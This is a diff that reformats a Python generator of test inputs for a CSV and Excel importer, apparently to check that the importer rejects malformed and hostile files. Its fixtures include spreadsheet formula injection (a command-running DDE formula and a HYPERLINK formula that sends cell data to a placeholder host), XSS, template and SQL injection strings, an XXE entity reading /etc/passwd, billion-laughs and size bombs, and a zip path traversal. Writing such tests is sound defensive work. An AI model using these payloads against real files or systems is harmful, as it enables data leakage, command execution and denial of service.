@@ -16,9 +16,20 @@ import openpyxl
 
 Rows = list[list[str]]
 CANARY = "canary-7f3a@example.org"  # stands in free text; no message may repeat it
-EVIL = ("=HYPERLINK(\"http://example.org/?\"&A1)", "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1|x",
-        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "$x^2$ and $_$", "{{7*7}} ${7*7}", "'; DROP TABLE",
-        "\u202egnp.exe", "line one\nline two")  # fmt: skip
+EVIL = (
+    '=HYPERLINK("http://example.org/?"&A1)',
+    "=cmd|'/C calc'!A0",
+    "@SUM(1+1)",
+    "+1+1",
+    "-1+1|x",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "$x^2$ and $_$",
+    "{{7*7}} ${7*7}",
+    "'; DROP TABLE",
+    "\u202egnp.exe",
+    "line one\nline two",
+)
 
 
 @dataclass(frozen=True)
@@ -56,15 +67,37 @@ def _answers() -> Rows:
 
 KINDS = {
     "answers": Kind(_answers(), number=3, name=1, id=0),
-    "roster": Kind([["team", "site", "headcount"], ["Red", "North", "12"], ["Green", "North", "9"],
-                    ["Blue", "South", "14"], ["Red", "South", "7"]], number=2, name=0, id=1),
-    "costs": Kind([["vendor", "line", "timing", "likely", "what"], ["Acme", "seats", "yearly", "12000", "a"],
-                   ["Acme", "roll-out", "initial", "5000", "b"], ["Bolt", "seats", "yearly", "9000", "c"]],
-                  number=3, name=1, id=1),
-    "deployments": Kind([["deployment", "service", "time", "note"]]
-                        + [[f"d{k}", ("shop", "till")[k % 2], f"2026-0{1 + k % 6}-{10 + k}T10:00Z", f"n{k}"]
-                           for k in range(12)], number=2, name=1, id=0),
-}  # fmt: skip
+    "roster": Kind(
+        [
+            ["team", "site", "headcount"],
+            ["Red", "North", "12"],
+            ["Green", "North", "9"],
+            ["Blue", "South", "14"],
+            ["Red", "South", "7"],
+        ],
+        number=2,
+        name=0,
+        id=1,
+    ),
+    "costs": Kind(
+        [
+            ["vendor", "line", "timing", "likely", "what"],
+            ["Acme", "seats", "yearly", "12000", "a"],
+            ["Acme", "roll-out", "initial", "5000", "b"],
+            ["Bolt", "seats", "yearly", "9000", "c"],
+        ],
+        number=3,
+        name=1,
+        id=1,
+    ),
+    "deployments": Kind(
+        [["deployment", "service", "time", "note"]]
+        + [[f"d{k}", ("shop", "till")[k % 2], f"2026-0{1 + k % 6}-{10 + k}T10:00Z", f"n{k}"] for k in range(12)],
+        number=2,
+        name=1,
+        id=0,
+    ),
+}
 
 
 def text_of(rows: Rows, separator: str = ",", end: str = "\n", quoting: int = csv.QUOTE_MINIMAL) -> str:
@@ -160,8 +193,22 @@ def _gzip_bomb() -> bytes:
 
 def _numbers(kind: str, at: Kind) -> Iterator[tuple[str, bytes, str]]:
     """Numbers that a person may mean and a program may not guess."""
-    for text in ("1,234", "1.234,50", "(100)", "12%", "EUR 1,234", "1e400", "inf", "nan", "0x10", "12 000", "1/2", "²",
-                 "--5", "1e"):  # fmt: skip
+    for text in (
+        "1,234",
+        "1.234,50",
+        "(100)",
+        "12%",
+        "EUR 1,234",
+        "1e400",
+        "inf",
+        "nan",
+        "0x10",
+        "12 000",
+        "1/2",
+        "²",
+        "--5",
+        "1e",
+    ):
         yield f"the number {text}", text_of(put(at.rows, 2, at.number, text)).encode(), "row 3"
     yield "a number below zero", text_of(put(at.rows, 2, at.number, "-4")).encode(), ""
 
@@ -180,8 +227,18 @@ def cases() -> Iterator[Case]:
     for name, data, says in _numbers("costs", KINDS["costs"]):
         if "below zero" not in name:
             yield Case(name, "costs", data, faulty=True, says=says)
-    for text in ("31/01/2026", "01.02.2026", "45678", "yesterday", "2026-13-01", "2026-02-30", "2026-01-01T25:00Z",
-                 "10:30", "2026", "<b>2026-01-01</b>"):  # fmt: skip
+    for text in (
+        "31/01/2026",
+        "01.02.2026",
+        "45678",
+        "yesterday",
+        "2026-13-01",
+        "2026-02-30",
+        "2026-01-01T25:00Z",
+        "10:30",
+        "2026",
+        "<b>2026-01-01</b>",
+    ):
         rows = put(KINDS["deployments"].rows, 2, 2, text)
         yield Case(f"the time {text}", "deployments", text_of(rows).encode(), faulty=True, says="row 3")
     yield from _answers_alone()
@@ -190,13 +247,21 @@ def cases() -> Iterator[Case]:
 def _answers_alone() -> Iterator[Case]:
     """What happens to answers only; the clean answers hold what is set aside too."""
     rows = KINDS["answers"].rows
-    yield Case("labels in other letters", "answers", text_of(each_cell(rows, lambda c: c if "k0" in c else c.upper()
-               if " agree" in c or "isagree" in c else c)).encode())  # fmt: skip
+    yield Case(
+        "labels in other letters",
+        "answers",
+        text_of(
+            each_cell(rows, lambda c: c if "k0" in c else c.upper() if " agree" in c or "isagree" in c else c)
+        ).encode(),
+    )
     yield Case(
         "labels with two spaces", "answers", text_of(each_cell(rows, lambda c: c.replace("y a", "y  a"))).encode()
     )
-    yield Case("codes for labels", "answers", text_of([rows[0], *([*r[:2], str(1 + (k * k) % 5), *r[3:]]
-               for k, r in enumerate(rows[1:]))]).encode())  # fmt: skip
+    yield Case(
+        "codes for labels",
+        "answers",
+        text_of([rows[0], *([*r[:2], str(1 + (k * k) % 5), *r[3:]] for k, r in enumerate(rows[1:]))]).encode(),
+    )
     yield Case("a label that is none", "answers", text_of(put(rows, 2, 2, "Agre")).encode(), faulty=True, says="Agree")
     yield Case("a code out of scale", "answers", text_of(put(rows, 2, 2, "6")).encode(), faulty=True, says="")
     yield Case("half a code", "answers", text_of(put(rows, 2, 2, "3.5")).encode(), faulty=True, says="")
@@ -214,10 +279,14 @@ def _answers_alone() -> Iterator[Case]:
             yield Case(f"evil team {k}", "answers", text_of(evil).encode(), team=text)
     yield Case("a remark of a megabyte", "answers", text_of(put(rows, 2, 4, "long " * 200_000)).encode())
     yield Case("windows letters", "answers", text_of(put(rows, 2, 4, "Zürich")).encode("cp1252"), says="Windows-1252")
-    yield Case("ten thousand columns", "answers",
-               text_of([[*row, *([f"x{j}" for j in range(10_000)] if i == 0 else [""] * 10_000)]
-                        for i, row in enumerate(rows)]).encode(),
-               says="not used|not in the codebook|ignored")  # fmt: skip
+    yield Case(
+        "ten thousand columns",
+        "answers",
+        text_of(
+            [[*row, *([f"x{j}" for j in range(10_000)] if i == 0 else [""] * 10_000)] for i, row in enumerate(rows)]
+        ).encode(),
+        says="not used|not in the codebook|ignored",
+    )
 
 
 def book(rows: Rows, change: Callable | None = None, number: int | None = None, title: str = "Sheet1") -> bytes:
@@ -301,8 +370,12 @@ def _workbooks(kind: str, at: Kind) -> Iterator[Case]:
     yield changed("an error cell", cell(3, number, "#DIV/0!"), faulty=True, says="#DIV/0!")
     yield changed("#N/A", cell(3, number, "#N/A"), faulty=True, says="#N/A")
     yield changed("a formula without a value", cell(3, number, "=1+2"), faulty=True, says="formula")
-    yield changed("merged cells", lambda b, s: s.merge_cells(start_row=2, end_row=4, start_column=at.name + 1,
-                  end_column=at.name + 1), faulty=True, says="merged")  # fmt: skip
+    yield changed(
+        "merged cells",
+        lambda b, s: s.merge_cells(start_row=2, end_row=4, start_column=at.name + 1, end_column=at.name + 1),
+        faulty=True,
+        says="merged",
+    )
     yield changed("a lone far cell", lambda b, s: s.cell(1_048_576, 16_384, "x"), faulty=True, says="far away")
     yield changed(
         "a header below a title", lambda b, s: s.insert_rows(1, 2) or s.cell(1, 1, "Report 2026"), faulty=True
@@ -310,31 +383,59 @@ def _workbooks(kind: str, at: Kind) -> Iterator[Case]:
     totals = ["Total", *[None] * (len(rows[0]) - 2), 99]
     yield changed("totals in a workbook", lambda b, s: s.append(totals), faulty=True, says="otal")
     yield changed("a link on a cell", lambda b, s: setattr(s.cell(2, 1), "hyperlink", "http://example.org/x"))
-    yield changed("a comment on a cell", lambda b, s: setattr(
-        s.cell(2, 1), "comment", openpyxl.comments.Comment(CANARY, "me")))  # fmt: skip
-    yield changed("a list to choose from", lambda b, s: s.add_data_validation(
-        openpyxl.worksheet.datavalidation.DataValidation(type="list", formula1='"a,b"')))  # fmt: skip
+    yield changed(
+        "a comment on a cell", lambda b, s: setattr(s.cell(2, 1), "comment", openpyxl.comments.Comment(CANARY, "me"))
+    )
+    yield changed(
+        "a list to choose from",
+        lambda b, s: s.add_data_validation(
+            openpyxl.worksheet.datavalidation.DataValidation(type="list", formula1='"a,b"')
+        ),
+    )
     if kind != "deployments":
         yield changed("a yes where a number belongs", cell(3, number, True), faulty=True)
-        yield by_hand("a formula with its value", swap(b"<v>5000</v>" if kind == "costs" else b"<v>9</v>"
-                      if kind == "roster" else b"<v>1</v>", b"<f>2+3</f><v>5000</v>" if kind == "costs" else
-                      b"<f>4+5</f><v>9</v>" if kind == "roster" else b"<f>0+1</f><v>1</v>"))  # fmt: skip
+        yield by_hand(
+            "a formula with its value",
+            swap(
+                b"<v>5000</v>" if kind == "costs" else b"<v>9</v>" if kind == "roster" else b"<v>1</v>",
+                b"<f>2+3</f><v>5000</v>"
+                if kind == "costs"
+                else b"<f>4+5</f><v>9</v>"
+                if kind == "roster"
+                else b"<f>0+1</f><v>1</v>",
+            ),
+        )
     yield by_hand("a dimension of a million rows", _dimension)
     yield by_hand("a member twice", lambda parts: None, twice=_SHEET, faulty=True, says="save it again")
     for name, entity in (("an entity", b'e SYSTEM "file:///etc/passwd"'), ("laughs", b'a "ha"><!ENTITY b "&a;&a;"')):
         declared = b"<!DOCTYPE x [<!ENTITY " + entity + b">]><worksheet"
         yield by_hand(name, swap(b"<worksheet", declared), faulty=True, says="entities")
-    yield by_hand("a sheet that swells", lambda parts: parts.update({_SHEET: parts[_SHEET].replace(
-        b"</sheetData>", b"</sheetData>" + b" " * (60 * 2**20))}), faulty=True, says="too large")  # fmt: skip
+    yield by_hand(
+        "a sheet that swells",
+        lambda parts: parts.update(
+            {_SHEET: parts[_SHEET].replace(b"</sheetData>", b"</sheetData>" + b" " * (60 * 2**20))}
+        ),
+        faulty=True,
+        says="too large",
+    )
     yield by_hand("a sheet cut short", lambda parts: parts.update({_SHEET: parts[_SHEET][:-300]}), faulty=True)
     yield by_hand("no sheet", lambda parts: parts.pop(_SHEET), faulty=True)
     yield by_hand("no workbook part", lambda parts: parts.pop("xl/workbook.xml"), faulty=True, says="zip archive")
-    yield by_hand("a shared text that is not there", swap(
-        b't="inlineStr"><is><t>' + rows[1][0].encode() + b"</t></is>", b't="s"><v>99999</v>'), faulty=True)  # fmt: skip
+    yield by_hand(
+        "a shared text that is not there",
+        swap(b't="inlineStr"><is><t>' + rows[1][0].encode() + b"</t></is>", b't="s"><v>99999</v>'),
+        faulty=True,
+    )
     yield by_hand("macros", lambda parts: parts.update({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), says="macros")
-    yield by_hand("links to other files", lambda parts: parts.update({"xl/externalLinks/externalLink1.xml":
-                  b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'}),
-                  says="links")  # fmt: skip
+    yield by_hand(
+        "links to other files",
+        lambda parts: parts.update(
+            {
+                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
+            }
+        ),
+        says="links",
+    )
     yield by_hand("a path out of the archive", lambda parts: parts.update({"../../evil.txt": b"x"}))
     endless = b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
     yield by_hand("merged without end", swap(b"</sheetData>", endless), faulty=True, says="merged")
